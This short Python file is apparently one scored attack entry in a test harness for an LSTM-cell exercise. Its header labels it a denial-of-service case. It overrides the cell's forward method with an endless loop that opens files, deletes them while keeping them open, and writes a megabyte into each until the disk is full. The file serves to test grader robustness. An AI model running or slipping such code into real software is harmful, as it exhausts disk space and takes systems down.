# /// attack
# title = "All of the writable disk filled, with files that are deleted but open"
# group = "Denial of service"
# verdict = "S"
# points = 75
# loses = ["celdaLSTM/*", "gradientes/lstm_cell", "gradientes/lstm_long"]
# keeps = ["celdaLSTM/parameters", "celdaLSTM/reset_parameters"]
# outcomes = ["error"]
# says = "OSError"
# ///
import os


class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        abiertos = []
        while True:
            abiertos.append(open("huella-ataque", "wb"))
            os.unlink("huella-ataque")
            abiertos[-1].write(bytes(1 << 20))
            abiertos[-1].flush()
